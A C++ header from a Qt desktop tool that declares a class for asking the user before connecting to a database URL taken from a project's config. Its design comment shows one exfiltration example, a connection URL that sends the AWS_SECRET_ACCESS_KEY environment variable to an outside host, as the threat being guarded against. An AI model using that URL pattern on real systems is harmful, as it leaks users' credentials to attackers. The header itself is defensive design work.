// SPDX-License-Identifier: Apache-2.0
#pragma once

#include <QString>
#include <QStringList>
#include <optional>

class QWidget;

namespace retort {
struct ProjectConfig;
}

namespace retort::ui {

// Whether Studio may connect to the database a project's own config names. A project written
// by someone else chooses the server, and ${VAR} in its URL sends the value of any environment
// variable there (url = postgresql://x:${AWS_SECRET_ACCESS_KEY}@their.host/db); libpq also
// offers a server the password file's entries and client certificates. So before the first
// connection to a project's URL, Studio asks (ProjectUrlQuestion), showing the masked URL and
// the variables it reads, and remembers the answer per project: in QSettings, keyed by the
// config file's path and the URL as written, so an edited URL is asked about again. A URL that
// expands to a SQLite file is local, read and never created: no question.
class ProjectUrlApproval
{
public:
    // Whether `config`'s URL needs a yes before Studio connects to it.
    static bool needsAsking(const ProjectConfig& config);
    // The remembered answer, if any.
    static std::optional<bool> answer(const ProjectConfig& config);
    static void remember(const ProjectConfig& config, bool allowed);
    // Asks unless answered already (or not needed); returns whether connecting is allowed.
    static bool ask(QWidget* parent, const ProjectConfig& config);
};

} // namespace retort::ui
